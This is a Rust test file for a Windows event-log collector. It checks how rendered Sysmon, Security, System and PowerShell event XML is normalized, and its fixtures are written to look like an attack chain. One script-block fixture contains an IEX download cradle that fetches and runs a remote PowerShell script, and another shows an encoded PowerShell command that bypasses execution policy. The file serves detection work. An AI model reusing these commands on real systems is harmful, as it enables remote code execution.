//! Events as `EvtRender(EvtRenderEventXml)` renders them (one line, single-quoted attributes,
//! the event namespace) → normalized events, validated against the event JSON Schema.
//!
//! The XML is written here by hand after the shapes Windows produces (field names, order and
//! value formats of each provider's manifest); no sample file is copied into the repository.

use dozor_agent_windows::eventlog::event_position;
use dozor_agent_windows::xml_to_event;
use dozor_decode::winlog::windows_event_id;
use dozor_event::schema::EventValidator;
use serde_json::{Value, json};

const NS: &str = "http://schemas.microsoft.com/win/2004/08/events/event";
const HOST: &str = "WS-ACC-017.corp.example.com";
const SID_ALICE: &str = "S-1-5-21-3623811015-3361044348-30300820-1013";
const SID_ADMIN: &str = "S-1-5-21-3623811015-3361044348-30300820-500";

/// `<Event><System>...</System>{payload}</Event>` as EvtRender writes it.
#[allow(clippy::too_many_arguments)]
fn event(
    provider: &str,
    event_id: &str,
    version: u8,
    level: u8,
    task: u16,
    opcode: u8,
    keywords: &str,
    record: u64,
    channel: &str,
    security: &str,
    payload: &str,
) -> String {
    format!(
        "<Event xmlns='{NS}'><System>{provider}<EventID{event_id}</EventID><Version>{version}</Version>\
         <Level>{level}</Level><Task>{task}</Task><Opcode>{opcode}</Opcode><Keywords>{keywords}</Keywords>\
         <TimeCreated SystemTime='2024-03-14T09:26:53.1234567Z'/><EventRecordID>{record}</EventRecordID>\
         <Correlation/><Execution ProcessID='804' ThreadID='2356'/><Channel>{channel}</Channel>\
         <Computer>{HOST}</Computer>{security}</System>{payload}</Event>"
    )
}

fn data(pairs: &[(&str, &str)]) -> String {
    let mut out = String::from("<EventData>");
    for (name, value) in pairs {
        if value.is_empty() {
            out.push_str(&format!("<Data Name='{name}'></Data>"));
        } else {
            out.push_str(&format!("<Data Name='{name}'>{value}</Data>"));
        }
    }
    out.push_str("</EventData>");
    out
}

const SECURITY_PROVIDER: &str = "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>";

fn security(
    event_id: u16,
    version: u8,
    task: u16,
    keywords: &str,
    record: u64,
    payload: &str,
) -> String {
    event(
        SECURITY_PROVIDER,
        &format!(">{event_id}"),
        version,
        0,
        task,
        0,
        keywords,
        record,
        "Security",
        "<Security/>",
        payload,
    )
}

/// Converts, validates against the schema, checks the deterministic id and the winlog part.
fn convert(xml: &str, channel: &str, event_id: u64, record: u64) -> Value {
    assert!(
        xml.starts_with("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>")
    );
    let v = xml_to_event(xml).unwrap_or_else(|e| panic!("{e}\n{xml}"));
    let errors = EventValidator::new().unwrap().validate(&v);
    assert!(errors.is_empty(), "{errors:#?}\n{v:#}");
    assert_eq!(v["winlog"]["channel"], channel, "{v:#}");
    assert_eq!(v["winlog"]["event_id"], event_id, "{v:#}");
    assert_eq!(v["winlog"]["record_id"], record, "{v:#}");
    assert_eq!(v["winlog"]["computer"], HOST);
    assert_eq!(v["host"]["name"], HOST);
    assert_eq!(v["event"]["code"], event_id.to_string());
    assert_eq!(v["event"]["kind"], "event");
    assert_eq!(v["@timestamp"], "2024-03-14T09:26:53.123456700Z");
    // Re-reading the same record (after a crash) gives the same id: the server deduplicates.
    assert_eq!(
        v["event"]["id"],
        windows_event_id(HOST, channel, record).to_string()
    );
    assert_eq!(xml_to_event(xml).unwrap(), v);
    assert_eq!(event_position(xml), Some((channel.to_owned(), record)));
    v
}

#[test]
fn sysmon_1_process_create() {
    let xml = event(
        "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>",
        ">1",
        5,
        4,
        1,
        0,
        "0x8000000000000000",
        48213,
        "Microsoft-Windows-Sysmon/Operational",
        "<Security UserID='S-1-5-18'/>",
        &data(&[
            ("RuleName", "-"),
            ("UtcTime", "2024-03-14 09:26:53.117"),
            ("ProcessGuid", "{9d5f1a2b-c1d5-65f2-5a03-000000002b00}"),
            ("ProcessId", "7448"),
            (
                "Image",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            ),
            ("FileVersion", "10.0.19041.3996 (WinBuild.160101.0800)"),
            ("Description", "Windows PowerShell"),
            ("Product", "Microsoft® Windows® Operating System"),
            ("Company", "Microsoft Corporation"),
            ("OriginalFileName", "PowerShell.EXE"),
            (
                "CommandLine",
                "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            ),
            ("CurrentDirectory", "C:\\Users\\alice\\Downloads\\"),
            ("User", "CORP\\alice"),
            ("LogonGuid", "{9d5f1a2b-bf6c-65f2-2f1b-3e0000000000}"),
            ("LogonId", "0x3E1B2F"),
            ("TerminalSessionId", "1"),
            ("IntegrityLevel", "Medium"),
            (
                "Hashes",
                "SHA1=04029E121A0CFA5991749937DD22A1D9FDB0ACF4,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
            ),
            (
                "ParentProcessGuid",
                "{9d5f1a2b-c0aa-65f2-3c03-000000002b00}",
            ),
            ("ParentProcessId", "5512"),
            (
                "ParentImage",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            ),
            (
                "ParentCommandLine",
                "&quot;C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE&quot; /n &quot;C:\\Users\\alice\\Downloads\\invoice.docm&quot;",
            ),
            ("ParentUser", "CORP\\alice"),
        ]),
    );
    let v = convert(&xml, "Microsoft-Windows-Sysmon/Operational", 1, 48213);
    assert_eq!(v["event"]["category"], json!(["process"]));
    assert_eq!(v["event"]["type"], json!(["start"]));
    assert_eq!(v["event"]["provider"], "Microsoft-Windows-Sysmon");
    assert_eq!(
        v["process"]["executable"],
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    assert_eq!(v["process"]["name"], "powershell.exe");
    assert_eq!(v["process"]["pid"], 7448);
    assert!(
        v["process"]["command_line"]
            .as_str()
            .unwrap()
            .contains("-EncodedCommand SQBFAFgA")
    );
    assert_eq!(
        v["process"]["hash"]["sha256"],
        "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"
    );
    assert_eq!(v["process"]["pe"]["original_file_name"], "PowerShell.EXE");
    assert_eq!(v["process"]["parent"]["name"], "WINWORD.EXE");
    assert_eq!(v["process"]["parent"]["pid"], 5512);
    assert_eq!(
        v["process"]["parent"]["command_line"],
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\""
    );
    assert_eq!(v["user"]["name"], "alice");
    assert_eq!(v["user"]["domain"], "CORP");
    // Sigma rules match the provider's own names.
    assert_eq!(
        v["winlog"]["event_data"]["OriginalFileName"],
        "PowerShell.EXE"
    );
    assert_eq!(v["winlog"]["user"]["identifier"], "S-1-5-18");
}

#[test]
fn security_4624_logon() {
    let xml = security(
        4624,
        2,
        12544,
        "0x8020000000000000",
        1290345,
        &data(&[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", SID_ALICE),
            ("TargetUserName", "Иванов"),
            ("TargetDomainName", "CORP"),
            ("TargetLogonId", "0x5a3c1f2"),
            ("LogonType", "3"),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", "WS-ACC-023"),
            ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            ("TransmittedServices", "-"),
            ("LmPackageName", "NTLM V2"),
            ("KeyLength", "128"),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", "10.20.30.41"),
            ("IpPort", "50112"),
            ("ImpersonationLevel", "%%1833"),
            ("RestrictedAdminMode", "-"),
            ("TargetOutboundUserName", "-"),
            ("TargetOutboundDomainName", "-"),
            ("VirtualAccount", "%%1843"),
            ("TargetLinkedLogonId", "0x0"),
            ("ElevatedToken", "%%1842"),
        ]),
    );
    let v = convert(&xml, "Security", 4624, 1290345);
    assert_eq!(v["event"]["category"], json!(["authentication"]));
    assert_eq!(v["event"]["type"], json!(["start"]));
    assert_eq!(v["event"]["outcome"], "success");
    // The logged-on user is the Target one.
    assert_eq!(v["user"]["name"], "Иванов");
    assert_eq!(v["user"]["domain"], "CORP");
    assert_eq!(v["user"]["id"], SID_ALICE);
    assert_eq!(v["source"]["ip"], "10.20.30.41");
    assert_eq!(v["source"]["port"], 50112);
    assert_eq!(v["winlog"]["event_data"]["LogonType"], "3");
    assert_eq!(v["winlog"]["keywords"], "0x8020000000000000");
    assert_eq!(v["winlog"]["task"], 12544);
    assert_eq!(v["winlog"]["version"], 2);
}

#[test]
fn security_4625_failed_logon() {
    let xml = security(
        4625,
        0,
        12544,
        "0x8010000000000000",
        1290346,
        &data(&[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "administrator"),
            ("TargetDomainName", "WS-ACC-017"),
            ("Status", "0xc000006d"),
            ("FailureReason", "%%2313"),
            ("SubStatus", "0xc000006a"),
            ("LogonType", "3"),
            ("LogonProcessName", "NtLmSsp "),
            ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", "KALI"),
            ("TransmittedServices", "-"),
            ("LmPackageName", "-"),
            ("KeyLength", "0"),
            ("ProcessId", "0x0"),
            ("ProcessName", "-"),
            ("IpAddress", "185.220.101.7"),
            ("IpPort", "0"),
        ]),
    );
    let v = convert(&xml, "Security", 4625, 1290346);
    assert_eq!(v["event"]["category"], json!(["authentication"]));
    assert_eq!(v["event"]["outcome"], "failure");
    assert_eq!(v["user"]["name"], "administrator");
    assert_eq!(v["user"]["domain"], "WS-ACC-017");
    assert_eq!(v["source"]["ip"], "185.220.101.7");
    // Port 0 (not recorded) is left out.
    assert!(v["source"].get("port").is_none(), "{v:#}");
    assert_eq!(v["winlog"]["event_data"]["SubStatus"], "0xc000006a");
}

#[test]
fn security_4688_process_creation() {
    let xml = security(
        4688,
        2,
        13312,
        "0x8020000000000000",
        1290347,
        &data(&[
            ("SubjectUserSid", SID_ALICE),
            ("SubjectUserName", "alice"),
            ("SubjectDomainName", "CORP"),
            ("SubjectLogonId", "0x3e1b2f"),
            ("NewProcessId", "0x1d18"),
            ("NewProcessName", "C:\\Windows\\System32\\whoami.exe"),
            ("TokenElevationType", "%%1938"),
            ("ProcessId", "0x1588"),
            ("CommandLine", "whoami /priv"),
            ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", "-"),
            ("TargetDomainName", "-"),
            ("TargetLogonId", "0x0"),
            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ("MandatoryLabel", "S-1-16-8192"),
        ]),
    );
    let v = convert(&xml, "Security", 4688, 1290347);
    assert_eq!(v["event"]["category"], json!(["process"]));
    assert_eq!(v["event"]["type"], json!(["start"]));
    assert_eq!(
        v["process"]["executable"],
        "C:\\Windows\\System32\\whoami.exe"
    );
    assert_eq!(v["process"]["name"], "whoami.exe");
    assert_eq!(v["process"]["command_line"], "whoami /priv");
    // Hex pids: NewProcessId is the new process, ProcessId its creator.
    assert_eq!(v["process"]["pid"], 0x1d18);
    assert_eq!(v["process"]["parent"]["pid"], 0x1588);
    assert_eq!(
        v["process"]["parent"]["executable"],
        "C:\\Windows\\System32\\cmd.exe"
    );
    assert_eq!(v["user"]["name"], "alice");
    assert_eq!(v["user"]["id"], SID_ALICE);
    // "-" means no value, and the NULL SID S-1-0-0 that goes with it is no account.
    assert!(v["user"].get("target").is_none(), "{v:#}");
}

#[test]
fn security_4720_user_created() {
    let xml = security(
        4720,
        0,
        13824,
        "0x8020000000000000",
        1290348,
        &data(&[
            ("TargetUserName", "svc-backup2"),
            ("TargetDomainName", "CORP"),
            ("TargetSid", "S-1-5-21-3623811015-3361044348-30300820-1104"),
            ("SubjectUserSid", SID_ADMIN),
            ("SubjectUserName", "Administrator"),
            ("SubjectDomainName", "CORP"),
            ("SubjectLogonId", "0x4a5b2"),
            ("PrivilegeList", "-"),
            ("SamAccountName", "svc-backup2"),
            ("DisplayName", "%%1793"),
            ("UserPrincipalName", "-"),
            ("HomeDirectory", "%%1793"),
            ("HomePath", "%%1793"),
            ("ScriptPath", "%%1793"),
            ("ProfilePath", "%%1793"),
            ("UserWorkstations", "%%1793"),
            ("PasswordLastSet", "%%1794"),
            ("AccountExpires", "%%1794"),
            ("PrimaryGroupId", "513"),
            ("AllowedToDelegateTo", "-"),
            ("OldUacValue", "0x0"),
            ("NewUacValue", "0x15"),
            (
                "UserAccountControl",
                "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084",
            ),
            ("UserParameters", "%%1793"),
            ("SidHistory", "-"),
            ("LogonHours", "%%1797"),
        ]),
    );
    let v = convert(&xml, "Security", 4720, 1290348);
    assert_eq!(v["event"]["category"], json!(["iam"]));
    assert_eq!(v["event"]["type"], json!(["user", "creation"]));
    // Who did it, and the account made.
    assert_eq!(v["user"]["name"], "Administrator");
    assert_eq!(v["user"]["id"], SID_ADMIN);
    assert_eq!(v["user"]["target"]["name"], "svc-backup2");
    assert_eq!(v["user"]["target"]["domain"], "CORP");
    assert_eq!(v["winlog"]["event_data"]["SamAccountName"], "svc-backup2");
    // Line ends inside values are kept as Windows wrote them.
    assert_eq!(
        v["winlog"]["event_data"]["UserAccountControl"],
        "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084"
    );
}

#[test]
fn security_4732_member_added_to_group() {
    let xml = security(
        4732,
        0,
        13826,
        "0x8020000000000000",
        1290349,
        &data(&[
            ("MemberName", "-"),
            ("MemberSid", "S-1-5-21-3623811015-3361044348-30300820-1104"),
            ("TargetUserName", "Administrators"),
            ("TargetDomainName", "Builtin"),
            ("TargetSid", "S-1-5-32-544"),
            ("SubjectUserSid", SID_ADMIN),
            ("SubjectUserName", "Administrator"),
            ("SubjectDomainName", "CORP"),
            ("SubjectLogonId", "0x4a5b2"),
            ("PrivilegeList", "-"),
        ]),
    );
    let v = convert(&xml, "Security", 4732, 1290349);
    assert_eq!(v["event"]["category"], json!(["iam"]));
    assert_eq!(v["event"]["type"], json!(["group", "change"]));
    assert_eq!(v["user"]["name"], "Administrator");
    assert_eq!(
        v["winlog"]["event_data"]["TargetUserName"],
        "Administrators"
    );
    assert_eq!(
        v["winlog"]["event_data"]["MemberSid"],
        "S-1-5-21-3623811015-3361044348-30300820-1104"
    );
}

#[test]
fn security_1102_log_cleared_user_data() {
    let xml = event(
        "<Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/>",
        ">1102",
        0,
        4,
        104,
        0,
        "0x4020000000000000",
        1290350,
        "Security",
        "<Security/>",
        &format!(
            "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>\
             <SubjectUserSid>{SID_ALICE}</SubjectUserSid><SubjectUserName>alice</SubjectUserName>\
             <SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x3e1b2f</SubjectLogonId>\
             </LogFileCleared></UserData>"
        ),
    );
    let v = convert(&xml, "Security", 1102, 1290350);
    assert_eq!(v["event"]["category"], json!(["configuration"]));
    assert_eq!(v["event"]["type"], json!(["deletion"]));
    assert_eq!(v["event"]["provider"], "Microsoft-Windows-Eventlog");
    assert_eq!(v["user"]["name"], "alice");
    assert_eq!(v["user"]["domain"], "CORP");
    assert_eq!(v["user"]["id"], SID_ALICE);
    // The UserData leaves are kept by their own names.
    assert_eq!(v["winlog"]["event_data"]["SubjectLogonId"], "0x3e1b2f");
}

#[test]
fn system_7045_service_installed() {
    let xml = event(
        "<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' EventSourceName='Service Control Manager'/>",
        " Qualifiers='16384'>7045",
        0,
        4,
        0,
        0,
        "0x8080000000000000",
        30211,
        "System",
        &format!("<Security UserID='{SID_ADMIN}'/>"),
        &data(&[
            ("ServiceName", "PSEXESVC"),
            ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
            ("ServiceType", "user mode service"),
            ("StartType", "demand start"),
            ("AccountName", "LocalSystem"),
        ]),
    );
    let v = convert(&xml, "System", 7045, 30211);
    assert_eq!(v["event"]["category"], json!(["configuration"]));
    assert_eq!(v["event"]["type"], json!(["creation"]));
    assert_eq!(v["event"]["provider"], "Service Control Manager");
    assert_eq!(v["winlog"]["event_data"]["ServiceName"], "PSEXESVC");
    assert_eq!(
        v["winlog"]["event_data"]["ImagePath"],
        "%SystemRoot%\\PSEXESVC.exe"
    );
    assert_eq!(v["winlog"]["user"]["identifier"], SID_ADMIN);
    assert!(v.get("user").is_none(), "{v:#}");
}

#[test]
fn powershell_4104_script_block() {
    // As rendered: `<`, `&` and `"` escaped in the text.
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); \
                  if (1 &lt; $n -and $ok) { Write-Host &quot;ok&quot; &amp; exit }";
    let xml = event(
        "<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>",
        ">4104",
        1,
        5,
        2,
        15,
        "0x0",
        8841,
        "Microsoft-Windows-PowerShell/Operational",
        &format!("<Security UserID='{SID_ALICE}'/>"),
        &data(&[
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", script),
            ("ScriptBlockId", "5b2a1c33-8e0d-4f6a-9c1b-2d7e4a9f0c11"),
            ("Path", ""),
        ]),
    );
    let v = convert(&xml, "Microsoft-Windows-PowerShell/Operational", 4104, 8841);
    assert_eq!(v["event"]["provider"], "Microsoft-Windows-PowerShell");
    assert_eq!(
        v["winlog"]["event_data"]["ScriptBlockText"],
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); \
         if (1 < $n -and $ok) { Write-Host \"ok\" & exit }"
    );
    assert_eq!(v["winlog"]["event_data"]["Path"], "");
    assert_eq!(v["winlog"]["level"], 5);
    assert_eq!(v["winlog"]["opcode"], 15);
    assert_eq!(v["winlog"]["process"]["pid"], 804);
    assert!(v.get("process").is_none(), "{v:#}");
}

#[test]
fn the_id_differs_per_record_channel_and_host() {
    let one = security(
        4688,
        2,
        13312,
        "0x8020000000000000",
        1,
        &data(&[("CommandLine", "a")]),
    );
    let two = security(
        4688,
        2,
        13312,
        "0x8020000000000000",
        2,
        &data(&[("CommandLine", "a")]),
    );
    let id = |xml: &str| xml_to_event(xml).unwrap()["event"]["id"].clone();
    assert_ne!(id(&one), id(&two));
    let other_host = one.replace(HOST, "WS-ACC-018");
    assert_ne!(id(&one), id(&other_host));
}
